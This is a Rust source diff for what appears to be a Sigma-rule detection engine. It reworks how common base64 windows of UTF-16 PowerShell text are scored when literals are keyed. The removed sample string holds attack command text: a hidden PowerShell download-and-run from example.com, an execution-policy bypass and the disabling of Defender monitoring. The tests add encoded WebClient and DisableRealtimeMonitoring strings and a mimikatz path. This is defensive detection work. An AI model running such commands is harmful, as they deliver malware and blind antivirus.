@@ -97,73 +97,37 @@ static COMMON_WINDOWS: [u64; 64] = {
     set
 };
 
-/// Text attack command lines carry base64-encoded as UTF-16 (`-EncodedCommand`): PowerShell and
-/// English. Sigma rules list such base64 at each of its three alignments (`base64offset`), and
-/// their windows that encode common characters (`ZQB`, `AGU`: an `e`) fill every encoded blob,
-/// so those windows are keys of last resort for a literal (see [`BASE64_WINDOWS`]).
-const BASE64_TEXT: &[u8] = b"powershell -nop -w hidden -noprofile -executionpolicy bypass -enc \
-iex (new-object net.webclient).downloadstring('http://example.com/a.ps1'); invoke-expression \
-start-process -filepath $env:temp\\update.exe -argumentlist /c whoami; set-mppreference \
--disablerealtimemonitoring $true; [system.convert]::frombase64string(get-content) the of and \
-to in is that for with on as it this are from write-host out-file";
+/// The commonest windows of base64-encoded UTF-16 text (`-EncodedCommand`), ASCII-lowercased: the
+/// 200 that encoded English and PowerShell yield most at any of the three alignments (written by
+/// `scripts/base64-windows`). They encode the zero bytes of UTF-16 and common letters (`zqb`,
+/// `agu`: an `e`), so every encoded blob is full of them; a base64 literal from a `base64offset`
+/// rule is keyed elsewhere if it can be (see [`BASE64_WINDOWS`]).
+const BASE64_COMMON: &[u8] = b"aca aia caa aga iab bla agu gua azq b0a ada ahq hqa gag dab abw bva zqb ag8 g8a bwb bpa aaq bha \
+bua aqb 0ag ayq agk gka age gea acg abg abl ag4 g4a qag yqb acw bza ahm hma uab bgb cgb bta uac \
+aaa pag ahi hia qbu qb0 bya wag aab vag abq boa zqa iaa gah ag0 g0a qaa bja aag lag bsa lac abh \
+agw gwa kag cwb uag aba lah hag kab abp gac oag agg gga yag aka uai bka ayw ywb qaz agm gma aza \
+agq gqa aua 0ac aay abv bab qbz abo ab0 kac 4az vah bqb ata qbt aad tag hah ac0 c0a alq lqb ahu \
+hua adq dqb bqa daa b1a sag qai aat eab jag gaz bwa wbl cab 8ab bma cwa ead gbv haa gbl agy gya \
+azg zab mad pah qbs zac aha wbv qby mab bna aal aak acq zah uad mai uah alg gb0 tae ac4 c4a qbj \
+aac aoa bga zag aja jab cqa 8az azw mac 8ac gbh agc gca aeq kad 4ad ahk hka wb0 gbk aao qay wby \
+wbu jah b5a qbl uae iac b3a 4ai";
 
-/// The base64 alphabet's character for the 6-bit value `v`.
-// Each arm's sum stays within its range of the alphabet.
-#[allow(clippy::arithmetic_side_effects)]
-const fn base64_char(v: u8) -> u8 {
-    match v {
-        0..=25 => b'A' + v,
-        26..=51 => b'a' + (v - 26),
-        52..=61 => b'0' + (v - 52),
-        62 => b'+',
-        _ => b'/',
-    }
-}
-
-/// Bits of a 16384-bit set of the (folded) 3-byte windows of [`BASE64_TEXT`] as UTF-16LE,
-/// base64-encoded at each of its three alignments, by [`base64_window_bit`].
+/// Bits of a 16384-bit set of the windows of [`BASE64_COMMON`], by [`base64_window_bit`].
 static BASE64_WINDOWS: [u64; 256] = {
     let mut set = [0u64; 256];
-    // Byte `j` of the text as UTF-16LE: a character, then 0.
-    let utf16_len = BASE64_TEXT.len() * 2;
-    let mut align = 0;
-    while align < 3 {
-        let mut window = 0u64;
-        let mut chars = 0;
-        let mut j = align;
-        // Each group of three bytes encodes as four characters.
-        while j + 3 <= utf16_len {
-            // In range: `j + k < utf16_len`, so `(j + k) / 2 < BASE64_TEXT.len()`; the bit index
-            // is below 16384.
-            #[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
-            {
-                let mut group = 0u32;
-                let mut k = 0;
-                while k < 3 {
-                    let byte = if (j + k) % 2 == 0 {
-                        BASE64_TEXT[(j + k) / 2]
-                    } else {
-                        0
-                    };
-                    group = (group << 8) | byte as u32;
-                    k += 1;
-                }
-                let mut c = 0;
-                while c < 4 {
-                    let v = ((group >> (18 - 6 * c)) & 0x3F) as u8;
-                    window =
-                        ((window << 8) | base64_char(v).to_ascii_lowercase() as u64) & 0xFF_FFFF;
-                    chars += 1;
-                    if chars >= 3 {
-                        let bit = base64_window_bit(window);
-                        set[bit / 64] |= 1u64 << (bit % 64);
-                    }
-                    c += 1;
-                }
-                j += 3;
-            }
+    // Windows of three bytes, each followed by a space.
+    let mut i = 0;
+    while i + 3 <= BASE64_COMMON.len() {
+        // In range: `i + 2 < BASE64_COMMON.len()`; the bit index is below 16384.
+        #[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
+        {
+            let w = ((BASE64_COMMON[i] as u64) << 16)
+                | ((BASE64_COMMON[i + 1] as u64) << 8)
+                | BASE64_COMMON[i + 2] as u64;
+            let bit = base64_window_bit(w);
+            set[bit / 64] |= 1u64 << (bit % 64);
+            i += 4;
         }
-        align += 1;
     }
     set
 };
@@ -173,14 +137,13 @@ const fn base64_window_bit(window: u64) -> usize {
     (window.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 50) as usize
 }
 
-/// Whether the (folded) 3-byte window is common in base64 of UTF-16 text (or shares its bit with
-/// one that is).
+/// Whether the (folded) 3-byte window is one of [`BASE64_COMMON`] (or shares its bit with one).
 fn base64_window(window: u64) -> bool {
     has_bit(&BASE64_WINDOWS, base64_window_bit(window))
 }
 
-/// Added to a window's score when it is a window of [`BASE64_TEXT`] encoded: more than any byte
-/// commonness can sum to, less than [`COMMON_WINDOW_PENALTY`].
+/// Added to a window's score when it is one of [`BASE64_COMMON`]: more than any byte commonness
+/// can sum to, less than [`COMMON_WINDOW_PENALTY`].
 const BASE64_WINDOW_PENALTY: u32 = 1 << 12;
 
 /// Where a 3-byte window (folded bytes, big-endian) falls in [`COMMON_WINDOWS`].
@@ -284,8 +247,8 @@ pub(crate) fn commonness(b: u8) -> u32 {
 
 /// Where literal `lit` is best keyed: the end of its key window, the whole literal when it is at
 /// most [`GRAM`] bytes long, else its least common window of [`GRAM`] bytes, the first of equals
-/// (windows of [`COMMON_TEXT`] last, then windows of encoded [`BASE64_TEXT`], then by the
-/// commonness of their bytes). The compiler records it in the pack for every string
+/// (windows of [`COMMON_TEXT`] last, then [`BASE64_COMMON`], then by the commonness of their
+/// bytes). The compiler records it in the pack for every string
 /// (`key_window_start`); loading only checks it.
 fn key_window_end(lit: &[u8]) -> usize {
     key_window_end_balanced(lit, |_| 0)
@@ -1736,29 +1699,38 @@ mod tests {
     }
 
     #[test]
-    fn base64_windows_are_those_of_encoded_text() {
-        // `powershell` as UTF-16LE, base64 (at the first alignment): each window is in the set.
-        for w in b"cABvAHcAZQByAHMAaABlAGwAbAA".windows(GRAM) {
-            let window = key_of(w) & 0xFF_FFFF;
-            assert!(base64_window(window), "{:?}", String::from_utf8_lossy(w));
+    fn base64_windows_are_the_commonest_of_encoded_text() {
+        // An encoded `e` at each alignment, and UTF-16's zero bytes.
+        for w in [b"zqb", b"agu", b"azq", b"aca", b"aaa"] {
+            assert!(
+                base64_window(key_of(w) & 0xFF_FFFF),
+                "{:?}",
+                String::from_utf8_lossy(w)
+            );
         }
-        // And few others: the set is sparse, so it rarely decides a path's key.
+        // The set is sparse, so it rarely decides a path's key.
         let set: u32 = BASE64_WINDOWS.iter().map(|w| w.count_ones()).sum();
-        assert!(set < 16384 / 10, "{set} of 16384 bits set");
+        assert!(set <= 200, "{set} of 16384 bits set");
         let path = b"\\windows\\temp\\mimikatz.exe";
         let marked = path
             .windows(GRAM)
             .filter(|w| base64_window(key_of(w) & 0xFF_FFFF))
             .count();
-        assert!(marked <= 2, "{marked} windows of a path marked");
-        // A base64 literal is keyed by a window that encodes an uncommon character, not an `e`.
-        let lit = b"uAGUAVAAuAFcAZQBCA";
-        let end = key_window_end(lit);
-        assert!(
-            !base64_window(window_at(lit, end)),
-            "keyed at {:?}",
-            &lit[end - GRAM..end]
-        );
+        assert!(marked <= 1, "{marked} windows of a path marked");
+        // Base64 literals are keyed by a window of an uncommon character, not an `e`'s: the
+        // encodings of `(New-Object Net.WebClient)` and `DisableRealtimeMonitoring`.
+        for lit in [
+            &b"uAGUAVAAuAFcAZQBCA"[..],
+            b"kAGkAcwBhAGIAbABlAHIAZQBhAGwAdABpAG0AZQBtAG8AbgBpAHQAbwByAGkAbgBnACAA",
+        ] {
+            let end = key_window_end(lit);
+            let key = &lit[end - GRAM..end];
+            assert!(
+                !base64_window(window_at(lit, end)),
+                "keyed at {:?}",
+                String::from_utf8_lossy(key)
+            );
+        }
     }
 
     #[test]
